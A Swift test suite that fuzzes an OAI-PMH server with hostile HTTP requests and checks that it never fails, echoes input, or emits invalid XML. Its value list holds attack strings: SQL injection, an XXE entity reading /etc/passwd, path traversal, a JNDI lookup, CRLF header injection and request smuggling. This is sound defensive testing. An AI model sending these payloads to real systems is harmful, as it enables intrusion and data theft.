import Foundation
import StoreContract
import TestSupport
import Testing
import XMLCodec

@Suite("Hostile requests")
struct HostileRequestTests {
  private struct Judgement {
    var statuses: [Int: Int] = [:]
    var documents: [[UInt8]] = []
  }

  @Test(
    "are answered in order: never a failure of the server, nothing echoed, XML by the schema",
    .timeLimit(.minutes(5)))
  func all() async throws {
    let seed = UInt64.random(in: 0 ... .max)
    print("hostile requests: seed \(seed)")
    var generator = HostileRequests(seed: seed)
    let requests = generator.all(count: 600)
    #expect(requests.count >= 600)
    let server = try await LiveServer()
    var judgement = Judgement()
    for request in requests {
      let (head, body) = try await server.raw(request)
      let text = String(decoding: request.prefix(300), as: UTF8.self)
      judgement.statuses[head.status, default: 0] += 1
      #expect(head.status >= 200 && head.status < 500, "seed \(seed): \(head.status) for \(text)")
      #expect(body.firstRange(of: HostileRequests.mark) == nil, "seed \(seed): echo of \(text)")
      guard head.status == 200 else { continue }
      if head.headers["content-type"] == "text/html; charset=utf-8" {
        // An address without a path is that of the first page.
        #expect(body.firstRange(of: Array("<h1>Live &lt;site&gt;</h1>".utf8)) != nil, "seed \(seed): \(text)")
        continue
      }
      #expect(head.headers["content-type"] == "text/xml; charset=utf-8", "seed \(seed): \(text)")
      #expect(throws: Never.self, "seed \(seed): \(text)") {
        try XMLTape(parsing: body, names: XMLNameTable([]))
      }
      judgement.documents.append(body)
    }
    #expect(try await server.get("/health").status == 200)
    #expect(judgement.statuses[200, default: 0] > 400, "\(judgement.statuses)")
    if let schema = ProtocolSchema.path {
      #expect(try ProtocolSchema.problems(judgement.documents, schema: schema) == "", "seed \(seed)")
    }
    await server.stop()
  }
}

/// Requests that no honest harvester sends.
private struct HostileRequests {
  /// Stands in every hostile value; must come back in no answer as it is.
  static let mark = Array("<zq9".utf8)

  private var random: SeededGenerator

  init(seed: UInt64) { random = SeededGenerator(seed: seed) }

  private static let verbs = [
    "Identify", "ListMetadataFormats", "ListSets", "GetRecord", "ListIdentifiers", "ListRecords",
    "listrecords",
    "LISTRECORDS", "Identify%00", "", "%3Czq9%3E", "Identify%20", "constructor", "verb",
  ]
  private static let names = [
    "verb", "metadataPrefix", "identifier", "from", "until", "set", "resumptionToken", "", "x", "%3Czq9%3E",
    "SET",
    "from%00", "metadataPrefix[]",
  ]
  /// Percent-encoded.
  private static let values = [
    "edm", "oai_dc", "oai:records.example.org:r1", "2024-01-01", "2024-01-01T00:00:00Z", "maps", "",
    "'%20OR%20'1'='1", "1;DROP%20TABLE%20record--", "%22%20UNION%20SELECT%20*%20FROM%20setting--",
    "%3Czq9%3E", "%22%3E%3Czq9%3E", "%5D%5D%3E%3Czq9%3E",
    "%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E",
    "%26lt;zq9%26gt;", "%26%2360;", "%26xxe;", "..%2F..%2F..%2Fetc%2Fpasswd", "/etc/passwd", "C:%5Cwindows",
    "%25s%25s%25n%25x", "%7B0%7D", "$%7Bjndi:ldap://x/a%7D", "%7B%7B7*7%7D%7D", "%0D%0ASet-Cookie:%20a=b",
    "%00",
    "a%00b", "%C0%AF", "%E0%80%AF", "%F0%80%80%AF", "%ED%A0%80", "%ED%BF%BF", "%EF%BF%BE", "%EF%BF%BF",
    "%FF%FE",
    "%F4%90%80%80", "%C3%28", "%E2%80%AE", "%EF%BB%BFedm", "%F0%9F%90%B6", "%01", "%1B[31m", "%7F", "%C2%85",
    "%", "%4", "%zz", "%u003c", "+", "%2B", "%20edm%20", "9999-99-99", "0000-00-00", "2024-02-30",
    "2024-13-01",
    "2024-01-01T25:00:00Z", "2024-01-01T00:00:60Z", "2024-01-01T00:00:00+01:00", "2024-01-01T00:00:00.5Z",
    "-2024-01-01",
    "20240101", "2024-1-1", "99999999999-01-01", "NaN", "null", "undefined", "true", "-1", "1e309",
    "a:b:c:d:e:f:g",
    ":", "::", "a:", ":a", "~", "~zz", "*", "eyJ2IjoiTGlzdFJlY29yZHMifQ.AAAA", ".", "a.b", "AAAA.AAAA", "=.=",
  ]

  private mutating func pick(_ list: [String]) -> String {
    list[Int.random(in: list.indices, using: &random)]
  }

  private mutating func value() -> String {
    switch Int.random(in: 0..<12, using: &random) {
    case 0:
      String(
        repeating: pick(["a", "%3C", "%C3%A9", ":", "<zq9>"]),
        count: Int.random(in: 500...3000, using: &random))
    case 1: pick(Self.values) + pick(Self.values)
    case 2:
      (0..<Int.random(in: 1...40, using: &random)).map { _ in
        "%" + String(Int.random(in: 256...511, using: &random), radix: 16).dropFirst()
      }.joined()
    default: pick(Self.values)
    }
  }

  private mutating func query() -> String {
    var arguments = ["verb=" + pick(Self.verbs)]
    for _ in 0..<Int.random(in: 0...5, using: &random) { arguments.append("\(pick(Self.names))=\(value())") }
    if Int.random(in: 0..<15, using: &random) == 0 {
      arguments += (0..<2000).map { "x\($0)=\($0)" }
    }
    if Int.random(in: 0..<10, using: &random) == 0 { arguments.append(arguments[arguments.count - 1]) }
    arguments.shuffle(using: &random)
    return arguments.joined(separator: pick(["&", "&", "&", "&&", ";"]))
  }

  private func get(_ target: String) -> [UInt8] {
    Array("GET \(target) HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".utf8)
  }

  private func post(_ body: String, type: String, headers: String = "") -> [UInt8] {
    Array(
      ("POST /oai HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: \(type)\r\n\(headers)"
        + "Content-Length: \(body.utf8.count)\r\n\r\n\(body)").utf8)
  }

  /// Fixed ones, then drawn ones.
  mutating func all(count: Int) -> [[UInt8]] {
    let form = "application/x-www-form-urlencoded"
    var requests = Self.values.map { get("/oai?verb=GetRecord&metadataPrefix=edm&identifier=\($0)") }
    requests += Self.values.map { get("/oai?verb=ListRecords&metadataPrefix=edm&set=\($0)") }
    requests += Self.values.map { get("/oai?verb=ListRecords&metadataPrefix=edm&from=\($0)") }
    requests += Self.values.map { get("/oai?verb=ListSets&resumptionToken=\($0)") }
    requests += [
      get("http://x/oai?verb=Identify"), get("http://x:80/oai?verb=%3Czq9%3E"), get("https://user@x/oai"),
      get("http://"),
      get("http://x"), get("http://?verb=Identify"), get("http://x:?a"), get("*"), get("//oai?verb=Identify"),
      get("/oai/../oai?verb=Identify"), get("/oai%3Fverb=Identify"), get("/oai?verb=Identify#<zq9>"),
      get("/OAI"),
      get("/oai?verb=Identify%23"), get("/oai?" + String(repeating: "a", count: 60_000)),
      get("/oai?" + String(repeating: "&", count: 20_000)),
      get("/oai?" + String(repeating: "verb=Identify&", count: 3000)),
      post("verb=Identify", type: "text/plain"), post("verb=<zq9>", type: form), post("", type: form),
      post("verb=Identify", type: form, headers: "Content-Encoding: gzip\r\n"),
      post("<verb>Identify</verb>", type: "text/xml"),
      post("{\"verb\":\"Identify\"}", type: "application/json"),
      post("--a\r\n", type: "multipart/form-data; boundary=a"), post("\u{0}\u{1}", type: form),
      post("verb=Identify&x=" + String(repeating: "a", count: 70_000), type: form),
      Array("GET /oai?verb=Identify HTTP/9.9\r\nHost: x\r\nConnection: close\r\n\r\n".utf8),
      Array("GET\r\n\r\n".utf8),
      Array("GET /oai?identifier=".utf8) + [0xFF, 0xC0, 0xAF]
        + Array(" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".utf8),
      Array("POST /oai HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: -1\r\n\r\n".utf8),
      Array(
        "POST /oai HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
          .utf8),
      Array(
        "GET /oai HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\(String(repeating: "A: b\r\n", count: 2000))\r\n"
          .utf8),
    ]
    while requests.count < count {
      let query = query()
      requests.append(
        Int.random(in: 0..<4, using: &random) == 0 && query.utf8.count < 60_000
          ? post(query, type: form) : get("/oai?" + query.filter { $0 != " " && $0 != "<" }))
    }
    return requests
  }
}
